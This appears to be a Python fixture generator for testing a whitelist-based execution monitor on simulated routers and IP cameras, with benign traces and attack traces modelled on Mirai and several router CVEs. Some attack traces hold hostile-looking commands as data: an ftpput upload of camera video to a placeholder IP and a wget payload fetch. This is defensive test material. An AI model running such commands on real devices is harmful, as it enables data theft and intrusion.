#!/usr/bin/env python3
"""Generate the simulated-device fixtures under fixtures/.

Each device gets an image manifest (virtual filesystem + boot exec list),
benign traces used for profiling, attack traces, and scenario expectation
files. Expected denial seqs and the golden decision logs are computed here
with an independent replay model (hashlib digests, plain-set whitelists), so
the C++ engine is cross-checked against a second implementation rather than
against its own output.

Deterministic by construction: two runs produce byte-identical trees.
Run from anywhere:  python3 scripts/gen_fixtures.py [--check]
  --check  regenerate into a scratch dir and fail if it differs from the
           committed fixtures/ tree.
"""

from __future__ import annotations

import argparse
import base64
import filecmp
import hashlib
import json
import shutil
import sys
import tempfile
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO / "fixtures"


# ---------------------------------------------------------------------------
# Deterministic blob synthesis

def elf(tag: str, size: int = 512) -> bytes:
    """Binary-looking deterministic content, unique per tag."""
    head = b"\x7fELF\x01\x01\x01\x00" + tag.encode() + b"\x00"
    body = b""
    counter = 0
    while len(head) + len(body) < size:
        body += hashlib.sha256(f"{tag}:{counter}".encode()).digest()
        counter += 1
    return (head + body)[:size]


# ---------------------------------------------------------------------------
# Trace record helpers (insertion order matches the on-disk field order)

def exec_(t, path, *args):
    rec = {"t": t, "kind": "exec", "path": path}
    if args:
        rec["args"] = list(args)
    return rec


def kill(t, sender, signal, target):
    return {"t": t, "kind": "kill", "sender": sender, "signal": signal, "target": target}


def insmod(t, module, path="/sbin/insmod", lkm_name=None):
    rec = {"t": t, "kind": "insmod", "path": path, "module": module}
    if lkm_name is not None:
        rec["lkm_name"] = lkm_name
    return rec


def rmmod(t, lkm_name, path="/sbin/rmmod"):
    return {"t": t, "kind": "rmmod", "path": path, "lkm_name": lkm_name}


def reboot(t):
    return {"t": t, "kind": "reboot"}


def write(t, path, data=None, data_bytes=None):
    rec = {"t": t, "kind": "write", "path": path}
    if data is not None:
        rec["data"] = data
    else:
        rec["data_b64"] = base64.b64encode(data_bytes).decode()
    return rec


def rm(t, path):
    return {"t": t, "kind": "rm", "path": path}


# ---------------------------------------------------------------------------
# Device model

class Device:
    def __init__(self, name: str, rcs_text: str):
        self.name = name
        self.engine = "/usr/bin/hades"
        self.init = "/etc/init.d/rcS"
        self.blobs: dict[str, bytes] = {
            "blobs/hades.bin": elf(f"{name}/hades"),
            "blobs/rcS": rcs_text.encode(),
        }
        self.files: dict[str, str] = {
            self.engine: "blobs/hades.bin",
            self.init: "blobs/rcS",
        }
        self.boot_exec: list[str] = []
        self.traces: dict[str, list[dict]] = {}
        self.scenarios: list[dict] = []

    def add_file(self, path: str, blob: str, data: bytes | None = None) -> None:
        if data is not None:
            self.blobs[blob] = data
        assert blob in self.blobs, blob
        assert path not in self.files, path
        self.files[path] = blob

    def add_elf(self, path: str) -> None:
        blob = "blobs/" + path.rsplit("/", 1)[-1] + ".bin"
        self.add_file(path, blob, elf(f"{self.name}{path}"))

    def add_busybox(self, paths: list[str]) -> None:
        """One multi-call binary, many applet paths: same bytes everywhere."""
        self.blobs.setdefault("blobs/busybox.bin", elf(f"{self.name}/busybox"))
        for p in paths:
            self.add_file(p, "blobs/busybox.bin")

    def add_module(self, path: str) -> None:
        blob = "blobs/" + path.rsplit("/", 1)[-1]
        self.add_file(path, blob, elf(f"{self.name}{path}"))


# ---------------------------------------------------------------------------
# Independent replay model: same digesting rules as the engine, re-derived
# from the frozen byte formats, nothing shared with the C++ code.

def lp64(b: bytes) -> bytes:
    return len(b).to_bytes(8, "big") + b


def id_exec(prog: bytes, path: str) -> str:
    return hashlib.sha256(b"\x00" + lp64(prog) + lp64(path.encode()) + lp64(b"")).hexdigest()


def id_insmod(prog: bytes, path: str, lkm: bytes) -> str:
    return hashlib.sha256(b"\x01" + lp64(prog) + lp64(path.encode()) + lp64(lkm)).hexdigest()


def id_rmmod(prog: bytes, path: str, lkm_name: str) -> str:
    return hashlib.sha256(
        b"\x02" + lp64(prog) + lp64(path.encode()) + lp64(lkm_name.encode())
    ).hexdigest()


def id_kill(sender: str, signal: int, target: str) -> str:
    desc = lp64(sender.encode()) + bytes([signal]) + lp64(target.encode())
    return hashlib.sha256(b"\x03" + lp64(b"") + lp64(sender.encode()) + lp64(desc)).hexdigest()


def scan(dev: Device, records: list[dict]):
    """Yields (seq, event_kind, entry_id_or_None) applying filesystem
    mutations, shadow restoration on reboot, and boot-exec injection."""
    fs = {p: dev.blobs[b] for p, b in dev.files.items()}
    shadows = {dev.engine: fs[dev.engine], dev.init: fs[dev.init]}
    seq = 1
    out = []

    def emit(kind, ident):
        nonlocal seq
        out.append((seq, kind, ident))
        seq += 1

    for r in records:
        k = r["kind"]
        if k == "exec":
            emit("exec", id_exec(fs[r["path"]], r["path"]))
        elif k == "kill":
            emit("kill", id_kill(r["sender"], r["signal"], r["target"]))
        elif k == "insmod":
            emit("insmod", id_insmod(fs[r["path"]], r["path"], fs[r["module"]]))
        elif k == "rmmod":
            emit("rmmod", id_rmmod(fs[r["path"]], r["path"], r["lkm_name"]))
        elif k == "reboot":
            fs.update(shadows)
            emit("reboot", None)
            for p in dev.boot_exec:
                emit("exec", id_exec(fs[p], p))
        elif k == "write":
            fs[r["path"]] = (
                r["data"].encode() if "data" in r else base64.b64decode(r["data_b64"])
            )
        elif k == "rm":
            fs.pop(r["path"], None)
        else:
            raise ValueError(f"unknown record kind {k}")
    return out


def profile_ids(dev: Device, records: list[dict]) -> set[str]:
    return {ident for _, _, ident in scan(dev, records) if ident is not None}


def denied_seqs(dev: Device, whitelist: set[str], records: list[dict]) -> list[int]:
    return [
        seq
        for seq, _, ident in scan(dev, records)
        if ident is not None and ident not in whitelist
    ]


def golden_log(dev: Device, whitelist: set[str], records: list[dict]) -> str:
    lines = []
    for seq, kind, ident in scan(dev, records):
        if ident is None:
            lines.append(f"{seq} allow reboot {'0' * 64} reboot")
        elif ident in whitelist:
            lines.append(f"{seq} allow {kind} {ident} whitelisted")
        else:
            verdict = "deny(EPERM)" if kind == "kill" else "deny(ENOSYS)"
            lines.append(f"{seq} {verdict} {kind} {ident} not-whitelisted")
    return "".join(line + "\n" for line in lines)


# ---------------------------------------------------------------------------
# Device definitions

def router_a() -> Device:
    d = Device(
        "router-a",
        "#!/bin/sh\n"
        "/usr/bin/hades &\n"
        "insmod /lib/modules/nf_conntrack.ko\n"
        "insmod /lib/modules/nf_nat.ko\n"
        "/usr/sbin/httpd &\n/usr/sbin/dnsmasq &\n/usr/sbin/miniupnpd &\n"
        "/usr/sbin/wps_monitor &\n",
    )
    d.add_busybox([
        "/bin/busybox", "/bin/sh", "/bin/login", "/bin/ls", "/bin/cat", "/bin/ps",
        "/bin/grep", "/bin/vi", "/bin/mount", "/bin/umount", "/bin/ping", "/bin/date",
        "/bin/cp", "/bin/mv", "/bin/rm", "/bin/mkdir", "/bin/touch", "/bin/echo",
        "/bin/sed", "/bin/chmod", "/bin/dmesg", "/bin/netstat", "/bin/sync",
        "/usr/bin/top", "/usr/bin/free", "/usr/bin/uptime", "/usr/bin/awk",
        "/usr/bin/wc", "/usr/bin/head", "/usr/bin/tail", "/usr/bin/find",
        "/usr/bin/du", "/usr/bin/df", "/usr/bin/tar", "/usr/bin/gzip",
        "/usr/bin/logger", "/sbin/ifconfig", "/sbin/route", "/sbin/arp",
        "/sbin/insmod", "/sbin/rmmod", "/usr/sbin/udhcpc",
    ])
    for p in ["/usr/sbin/httpd", "/usr/sbin/dnsmasq", "/usr/sbin/miniupnpd",
              "/usr/sbin/wps_monitor", "/usr/sbin/ntpclient", "/usr/sbin/nvram",
              "/usr/sbin/wl", "/sbin/iptables", "/usr/sbin/utelnetd"]:
        d.add_elf(p)
    for m in ["/lib/modules/nf_conntrack.ko", "/lib/modules/nf_nat.ko",
              "/lib/modules/wl.ko"]:
        d.add_module(m)
    d.boot_exec = ["/etc/init.d/rcS", "/bin/busybox", "/usr/sbin/httpd",
                   "/usr/sbin/dnsmasq", "/usr/sbin/miniupnpd", "/usr/sbin/wps_monitor"]

    # Idle day: boot, netfilter modules, clock sync, lease renewals.
    idle = [
        reboot(0),
        insmod(2_000, "/lib/modules/nf_conntrack.ko"),
        insmod(2_500, "/lib/modules/nf_nat.ko"),
        exec_(4_000, "/usr/sbin/udhcpc", "-i", "eth0"),
        exec_(5_000, "/usr/sbin/ntpclient", "-s", "pool.ntp.org"),
        exec_(5_200, "/bin/date"),
        kill(6_000, "/usr/sbin/udhcpc", 1, "/usr/sbin/dnsmasq"),
        # The same daily rhythm again: nothing new to learn.
        exec_(30_000, "/usr/sbin/ntpclient", "-s", "pool.ntp.org"),
        exec_(30_200, "/bin/date"),
        kill(36_000, "/usr/sbin/udhcpc", 1, "/usr/sbin/dnsmasq"),
        reboot(50_000),
        insmod(52_000, "/lib/modules/nf_conntrack.ko"),
        insmod(52_500, "/lib/modules/nf_nat.ko"),
        exec_(54_000, "/usr/sbin/udhcpc", "-i", "eth0"),
    ]
    d.traces["idle"] = idle

    # An admin works on the box: console login, diagnostics, wireless module
    # reload, service restarts. Everything idle does, plus the session.
    session_t = 60_000
    session = [exec_(session_t, "/bin/login"), exec_(session_t + 500, "/bin/sh", "-l")]
    applets = [
        "/bin/ls", "/bin/cat", "/bin/ps", "/bin/grep", "/bin/vi", "/bin/mount",
        "/bin/umount", "/bin/ping", "/bin/cp", "/bin/mv", "/bin/rm", "/bin/mkdir",
        "/bin/touch", "/bin/echo", "/bin/sed", "/bin/chmod", "/bin/dmesg",
        "/bin/netstat", "/bin/sync", "/usr/bin/top", "/usr/bin/free",
        "/usr/bin/uptime", "/usr/bin/awk", "/usr/bin/wc", "/usr/bin/head",
        "/usr/bin/tail", "/usr/bin/find", "/usr/bin/du", "/usr/bin/df",
        "/usr/bin/tar", "/usr/bin/gzip", "/usr/bin/logger", "/sbin/ifconfig",
        "/sbin/route", "/sbin/arp",
    ]
    for i, p in enumerate(applets):
        session.append(exec_(session_t + 1_000 + i * 200, p))
    session += [
        exec_(70_000, "/usr/sbin/nvram", "show"),
        exec_(70_500, "/sbin/iptables", "-L"),
        exec_(71_000, "/usr/sbin/wl", "status"),
        rmmod(72_000, "wl"),
        insmod(72_500, "/lib/modules/wl.ko"),
        kill(74_000, "/bin/sh", 15, "/usr/sbin/dnsmasq"),
        exec_(74_500, "/usr/sbin/dnsmasq"),
        kill(75_000, "/bin/sh", 1, "/usr/sbin/httpd"),
        kill(75_500, "/bin/sh", 9, "/usr/sbin/wps_monitor"),
        exec_(76_000, "/usr/sbin/wps_monitor"),
    ]
    d.traces["interactive"] = idle + session

    # Attack: a crafted LAN packet flips on the dormant telnet daemon, then
    # the intruder plants a kernel module and goes after the engine itself.
    d.traces["attack-magic-packet"] = [
        reboot(0),
        insmod(2_000, "/lib/modules/nf_conntrack.ko"),
        insmod(2_500, "/lib/modules/nf_nat.ko"),
        exec_(4_000, "/usr/sbin/udhcpc", "-i", "eth0"),
        exec_(5_000, "/usr/sbin/ntpclient", "-s", "pool.ntp.org"),
        # Magic packet arrives: telnetd was never part of the profile.
        exec_(8_000, "/usr/sbin/utelnetd", "-p", "9999"),
        exec_(9_000, "/bin/login"),
        exec_(9_500, "/bin/sh", "-l"),
        write(10_000, "/tmp/.k.ko", data_bytes=elf("router-a-rootkit", 256)),
        insmod(10_500, "/tmp/.k.ko", lkm_name="k"),
        rmmod(11_000, "nf_conntrack"),
        kill(12_000, "/bin/sh", 9, "/usr/bin/hades"),
    ]
    d.scenarios.append({
        "name": "netgear-magic-packet",
        "description": (
            "Crafted LAN packet silently enables the router's dormant telnet "
            "daemon. The daemon binary never appeared while profiling, so its "
            "first exec is denied, as are the planted kernel module, the "
            "netfilter unload, and the attempt to kill the engine."
        ),
        "profile": "interactive",
        "attack": "attack-magic-packet",
    })
    return d


def camera_b() -> Device:
    d = Device(
        "camera-b",
        "#!/bin/sh\n"
        "/usr/bin/hades &\n"
        "insmod /lib/modules/videobuf.ko\ninsmod /lib/modules/usb_cam.ko\n"
        "insmod /lib/modules/wifi_drv.ko\n"
        "/usr/sbin/rtspd &\n/usr/sbin/onvifd &\n/usr/sbin/motiond &\n"
        "/usr/bin/ffenc &\n/usr/sbin/watchdogd &\n",
    )
    applet_names = [
        "sh", "login", "ls", "cat", "ps", "grep", "vi", "mount", "umount", "ping",
        "date", "cp", "mv", "rm", "mkdir", "rmdir", "touch", "echo", "sed",
        "chmod", "chown", "dmesg", "netstat", "sync", "dd", "ln", "pwd", "sleep",
        "uname", "hostname", "kill", "killall", "more", "env", "basename",
        "dirname", "cut", "sort", "uniq", "tr", "tee", "xargs", "stat", "id",
        "whoami", "which", "clear", "reset", "watch", "time", "yes", "seq",
        "printf", "test", "expr", "true", "false", "od", "hexdump", "strings",
        "md5sum", "sha1sum", "cmp", "diff", "patch", "tar", "gzip", "gunzip",
        "zcat", "bzip2", "wc", "head", "tail", "find", "du", "df", "free", "top",
        "uptime", "awk", "logger", "vconfig", "ifconfig", "route", "arp",
        "insmod", "rmmod", "lsmod", "udhcpc", "telnetd",
    ]
    d.add_busybox(["/bin/busybox"] + [f"/bin/{n}" for n in applet_names])
    for p in ["/usr/sbin/rtspd", "/usr/sbin/onvifd", "/usr/sbin/motiond",
              "/usr/bin/ffenc", "/usr/sbin/watchdogd", "/usr/sbin/ntpd",
              "/usr/bin/setconf", "/usr/bin/sdformat"]:
        d.add_elf(p)
    for m in ["/lib/modules/videobuf.ko", "/lib/modules/usb_cam.ko",
              "/lib/modules/wifi_drv.ko", "/lib/modules/sd_mmc.ko"]:
        d.add_module(m)
    d.boot_exec = ["/etc/init.d/rcS", "/bin/busybox", "/usr/sbin/rtspd",
                   "/usr/sbin/onvifd", "/usr/sbin/motiond", "/usr/bin/ffenc",
                   "/usr/sbin/watchdogd"]

    idle = [
        reboot(0),
        insmod(1_000, "/lib/modules/videobuf.ko", path="/bin/insmod"),
        insmod(1_200, "/lib/modules/usb_cam.ko", path="/bin/insmod"),
        insmod(1_400, "/lib/modules/wifi_drv.ko", path="/bin/insmod"),
        exec_(2_000, "/bin/udhcpc", "-i", "wlan0"),
        exec_(3_000, "/usr/sbin/ntpd", "-q"),
        kill(5_000, "/usr/sbin/motiond", 10, "/usr/bin/ffenc"),
        kill(5_500, "/usr/sbin/watchdogd", 10, "/usr/sbin/rtspd"),
        exec_(20_000, "/bin/date"),
        # Motion events through the night: the same two signal pairs repeat.
        kill(30_000, "/usr/sbin/motiond", 10, "/usr/bin/ffenc"),
        kill(42_000, "/usr/sbin/motiond", 10, "/usr/bin/ffenc"),
        exec_(55_000, "/usr/sbin/ntpd", "-q"),
    ]
    d.traces["idle"] = idle

    session = [
        exec_(60_000, "/bin/telnetd"),
        exec_(60_500, "/bin/login"),
        exec_(61_000, "/bin/sh", "-l"),
    ]
    for i, n in enumerate(a for a in applet_names if a not in
                          ("sh", "login", "telnetd", "udhcpc", "insmod")):
        session.append(exec_(62_000 + i * 150, f"/bin/{n}"))
    session += [
        exec_(80_000, "/usr/bin/setconf", "-k", "rtsp.port", "-v", "8554"),
        exec_(80_500, "/usr/bin/sdformat", "/dev/mmcblk0"),
        insmod(81_000, "/lib/modules/sd_mmc.ko", path="/bin/insmod"),
        rmmod(82_000, "sd_mmc", path="/bin/rmmod"),
        kill(83_000, "/bin/sh", 15, "/usr/sbin/rtspd"),
        exec_(83_500, "/usr/sbin/rtspd"),
        kill(84_000, "/bin/sh", 15, "/usr/sbin/onvifd"),
        exec_(84_500, "/usr/sbin/onvifd"),
    ]
    d.traces["interactive"] = idle + session
    return d


def simplehome_cam() -> Device:
    d = Device(
        "simplehome-cam",
        "#!/bin/sh\n/usr/bin/hades &\n/usr/sbin/telnetd &\n/usr/sbin/mini_httpd &\n",
    )
    d.add_busybox(["/bin/busybox", "/bin/sh", "/bin/login"])
    for p in ["/usr/sbin/telnetd", "/usr/sbin/mini_httpd"]:
        d.add_elf(p)
    d.boot_exec = ["/etc/init.d/rcS", "/bin/busybox", "/usr/sbin/telnetd",
                   "/usr/sbin/mini_httpd"]

    d.traces["benign"] = [
        reboot(0),
        # The owner checks the stream and pokes around over telnet once.
        exec_(10_000, "/bin/login"),
        exec_(10_500, "/bin/sh"),
        reboot(40_000),
    ]

    # Mirai-style worm: default credentials over the open telnet port (all
    # profiled), then a bot dropped into /tmp and launched.
    d.traces["attack-mirai"] = [
        reboot(0),
        exec_(5_000, "/bin/login"),
        exec_(5_500, "/bin/sh"),
        write(6_000, "/tmp/.i", data_bytes=elf("mirai-bot", 192)),
        exec_(6_500, "/tmp/.i"),
        kill(7_000, "/tmp/.i", 9, "/usr/sbin/mini_httpd"),
        write(8_000, "/tmp/.i2", data_bytes=elf("mirai-bot-update", 192)),
        exec_(8_500, "/tmp/.i2"),
    ]
    d.scenarios.append({
        "name": "mirai-telnet",
        "description": (
            "Worm logs in over the camera's always-on telnet service with "
            "default credentials; login and shell are profiled, so entry "
            "looks normal. Detection fires the moment the dropped bot is "
            "executed, and again when it tries to kill the web server and "
            "relaunch an updated copy."
        ),
        "profile": "benign",
        "attack": "attack-mirai",
    })
    return d


def provision_cam() -> Device:
    d = Device(
        "provision-cam",
        "#!/bin/sh\n/usr/bin/hades &\n/usr/sbin/goahead &\n/usr/sbin/rtspd &\n",
    )
    d.add_busybox(["/bin/busybox", "/bin/sh", "/bin/chmod", "/bin/ftpput"])
    for p in ["/usr/sbin/goahead", "/usr/sbin/rtspd"]:
        d.add_elf(p)
    d.boot_exec = ["/etc/init.d/rcS", "/bin/busybox", "/usr/sbin/goahead",
                   "/usr/sbin/rtspd"]

    d.traces["benign"] = [
        reboot(0),
        exec_(4_000, "/bin/sh", "/usr/share/check_wifi.sh"),
        reboot(30_000),
        exec_(34_000, "/bin/sh", "/usr/share/check_wifi.sh"),
    ]

    # CVE-2017-8225-style credential leak on the camera's web server, then an
    # exfiltration script staged into /tmp.
    d.traces["attack-cve-2017-8225"] = [
        reboot(0),
        exec_(4_000, "/bin/sh", "/usr/share/check_wifi.sh"),
        write(9_000, "/tmp/ftpupload.sh",
              data="#!/bin/sh\nftpput -u u -p p 198.51.100.7 /dev/video0\n"),
        exec_(9_500, "/bin/chmod", "+x", "/tmp/ftpupload.sh"),
        exec_(10_000, "/tmp/ftpupload.sh"),
    ]
    d.scenarios.append({
        "name": "cve-2017-8225",
        "description": (
            "Leaked web-interface credentials (CVE-2017-8225 class) give the "
            "attacker a foothold to stage an upload script. Marking it "
            "executable uses a chmod applet path never seen during "
            "profiling, so chmod is denied, and the staged script is denied "
            "right after."
        ),
        "profile": "benign",
        "attack": "attack-cve-2017-8225",
    })
    return d


def linksys_e4200() -> Device:
    d = Device(
        "linksys-e4200",
        "#!/bin/sh\n/usr/bin/hades &\ninsmod /lib/modules/wl.ko\n"
        "/usr/sbin/httpd &\n/usr/sbin/dnsmasq &\n/usr/sbin/upnpd &\n",
    )
    d.add_busybox(["/bin/busybox", "/bin/sh", "/sbin/insmod"])
    for p in ["/usr/sbin/httpd", "/usr/sbin/dnsmasq", "/usr/sbin/upnpd",
              "/sbin/preinit"]:
        d.add_elf(p)
    d.add_module("/lib/modules/wl.ko")
    d.boot_exec = ["/sbin/preinit", "/etc/init.d/rcS", "/bin/busybox",
                   "/usr/sbin/httpd", "/usr/sbin/dnsmasq", "/usr/sbin/upnpd"]

    d.traces["benign"] = [
        reboot(0),
        insmod(2_000, "/lib/modules/wl.ko"),
        exec_(5_000, "/bin/sh", "/etc/cron_weekly.sh"),
        kill(6_000, "/bin/sh", 1, "/usr/sbin/dnsmasq"),
        reboot(40_000),
        insmod(42_000, "/lib/modules/wl.ko"),
    ]

    # CVE-2013-2678-style crafted management request: the compromised web
    # server signals init to force a management-mode restart.
    d.traces["attack-cve-2013-2678"] = [
        reboot(0),
        insmod(2_000, "/lib/modules/wl.ko"),
        kill(9_000, "/usr/sbin/httpd", 10, "/sbin/preinit"),
    ]
    d.scenarios.append({
        "name": "cve-2013-2678",
        "description": (
            "A crafted request to the management interface (CVE-2013-2678 "
            "class) makes the web server signal the init process with "
            "SIGUSR1. That (sender, signal, target) triple was never "
            "profiled, so the kill is denied with EPERM."
        ),
        "profile": "benign",
        "attack": "attack-cve-2013-2678",
    })
    return d


def asus_rt_n56u() -> Device:
    d = Device(
        "asus-rt-n56u",
        "#!/bin/sh\n/usr/bin/hades &\n/usr/sbin/infosvr &\n/usr/sbin/httpd &\n"
        "/usr/sbin/networkmap &\n",
    )
    d.add_busybox(["/bin/busybox", "/bin/sh", "/bin/login", "/usr/bin/wget",
                   "/usr/bin/tftp"])
    for p in ["/usr/sbin/infosvr", "/usr/sbin/httpd", "/usr/sbin/networkmap",
              "/usr/sbin/telnetd"]:
        d.add_elf(p)
    d.boot_exec = ["/etc/init.d/rcS", "/bin/busybox", "/usr/sbin/infosvr",
                   "/usr/sbin/httpd", "/usr/sbin/networkmap"]

    # The owner enabled telnet during setup, so telnetd/login/sh are profiled.
    d.traces["benign"] = [
        reboot(0),
        exec_(10_000, "/usr/sbin/telnetd"),
        exec_(11_000, "/bin/login"),
        exec_(11_500, "/bin/sh", "-l"),
        reboot(50_000),
    ]

    # CVE-2014-9583-style spoofed discovery packet: infosvr starts telnet.
    # Entry stays quiet (telnetd was profiled); the payload pull is not.
    d.traces["attack-cve-2014-9583"] = [
        reboot(0),
        exec_(6_000, "/usr/sbin/telnetd"),
        exec_(7_000, "/bin/login"),
        exec_(7_500, "/bin/sh", "-l"),
        exec_(8_000, "/usr/bin/wget", "http://198.51.100.9/x.sh"),
        write(8_500, "/tmp/x.sh", data="#!/bin/sh\nwhile true; do :; done\n"),
        exec_(9_000, "/tmp/x.sh"),
    ]
    d.scenarios.append({
        "name": "cve-2014-9583-telnet-on",
        "description": (
            "A spoofed discovery packet (CVE-2014-9583 class) makes infosvr "
            "start the telnet daemon. Telnet was used during setup and is "
            "profiled, so the attacker's entry is indistinguishable from the "
            "owner's; the first out-of-profile steps - pulling a payload "
            "with wget and running the dropped script - are both denied."
        ),
        "profile": "benign",
        "attack": "attack-cve-2014-9583",
    })
    return d


# ---------------------------------------------------------------------------
# Writers

def write_device(root: Path, dev: Device) -> list[str]:
    base = root / dev.name
    (base / "blobs").mkdir(parents=True)
    for rel, data in sorted(dev.blobs.items()):
        (base / rel).write_bytes(data)

    lines = [
        f'name = "{dev.name}"',
        f'engine_binary = "{dev.engine}"',
        f'init_script = "{dev.init}"',
        "",
        "[boot]",
        "exec = [" + ", ".join(f'"{p}"' for p in dev.boot_exec) + "]",
        "",
        "[files]",
    ]
    lines += [f'"{p}" = "{b}"' for p, b in sorted(dev.files.items())]
    (base / "image.manifest").write_text("\n".join(lines) + "\n")

    (base / "traces").mkdir()
    for name, records in sorted(dev.traces.items()):
        text = "".join(json.dumps(r) + "\n" for r in records)
        (base / "traces" / f"{name}.trace").write_text(text)

    summary = []
    if dev.scenarios:
        (base / "scenarios").mkdir()
    for sc in dev.scenarios:
        wl = profile_ids(dev, dev.traces[sc["profile"]])
        denies = denied_seqs(dev, wl, dev.traces[sc["attack"]])
        assert denies, f"{dev.name}/{sc['name']}: attack produced no denials"
        text = (
            f'description = "{sc["description"]}"\n'
            f'manifest = "../image.manifest"\n'
            f'profile_trace = "../traces/{sc["profile"]}.trace"\n'
            f'attack_trace = "../traces/{sc["attack"]}.trace"\n'
            f"expected_first_denial = {denies[0]}\n"
            f"expected_denials = [{', '.join(str(s) for s in denies)}]\n"
        )
        (base / "scenarios" / f"{sc['name']}.expect").write_text(text)
        (base / "scenarios" / f"{sc['name']}.golden").write_text(
            golden_log(dev, wl, dev.traces[sc["attack"]])
        )
        summary.append(f"  scenario {sc['name']}: denials at {denies}")

    for name, records in sorted(dev.traces.items()):
        if name.startswith("attack"):
            continue
        summary.append(
            f"  trace {name}: {len(records)} records, "
            f"{len(profile_ids(dev, records))} whitelist entries"
        )
    return [f"{dev.name}:"] + summary


README = """\
# Device fixtures

Synthetic device images and event traces for the simulated-device harness.
Everything in this tree is generated by `scripts/gen_fixtures.py`; edit the
generator, not the output (`--check` verifies freshness).

Layout per device:

    <device>/image.manifest      filesystem + boot exec list
    <device>/blobs/              file content referenced by the manifest
    <device>/traces/*.trace      JSONL event traces (benign and attack)
    <device>/scenarios/*.expect  profile/attack pairing + expected denials
    <device>/scenarios/*.golden  expected enforcing-phase decision log

Devices:

- **router-a** - home Wi-Fi router with a large busybox applet surface. The
  idle trace covers boot plus background chores; the interactive trace adds a
  full admin console session. The magic-packet scenario wakes the dormant
  telnet daemon and plants a kernel module.
- **camera-b** - feature-rich IP camera used for profiling-stability runs
  (no attack scenario): a small idle profile versus a long interactive
  maintenance session.
- **simplehome-cam** - bare-bones camera with telnet open by default;
  Mirai-style worm drops a bot over a valid telnet login.
- **provision-cam** - web-managed camera; leaked credentials lead to a staged
  exfiltration script (CVE-2017-8225 class).
- **linksys-e4200** - router whose compromised web server signals init
  (CVE-2013-2678 class); the only attack step is a kill event.
- **asus-rt-n56u** - router whose discovery service can be tricked into
  starting telnet (CVE-2014-9583 class); telnet itself is profiled, the
  payload pull is what gets caught.

Expected denial seqs and the golden logs are computed by the generator's own
replay model (hashlib digests over the frozen byte formats), independent of
the C++ implementation.
"""


def generate(root: Path) -> list[str]:
    if root.exists():
        shutil.rmtree(root)
    root.mkdir(parents=True)
    notes = []
    for dev in [router_a(), camera_b(), simplehome_cam(), provision_cam(),
                linksys_e4200(), asus_rt_n56u()]:
        notes += write_device(root, dev)
    (root / "README.md").write_text(README)
    return notes


def trees_equal(a: Path, b: Path) -> bool:
    cmp = filecmp.dircmp(a, b)
    if cmp.left_only or cmp.right_only or cmp.diff_files or cmp.funny_files:
        return False
    return all(trees_equal(a / sub, b / sub) for sub in cmp.common_dirs)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--check", action="store_true",
                    help="verify fixtures/ matches a fresh generation")
    args = ap.parse_args()

    if args.check:
        with tempfile.TemporaryDirectory() as tmp:
            scratch = Path(tmp) / "fixtures"
            generate(scratch)
            if not FIXTURES.is_dir() or not trees_equal(scratch, FIXTURES):
                print("fixtures/ is stale; rerun scripts/gen_fixtures.py",
                      file=sys.stderr)
                return 1
        print("fixtures/ is up to date")
        return 0

    for line in generate(FIXTURES):
        print(line)
    print(f"wrote {FIXTURES}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
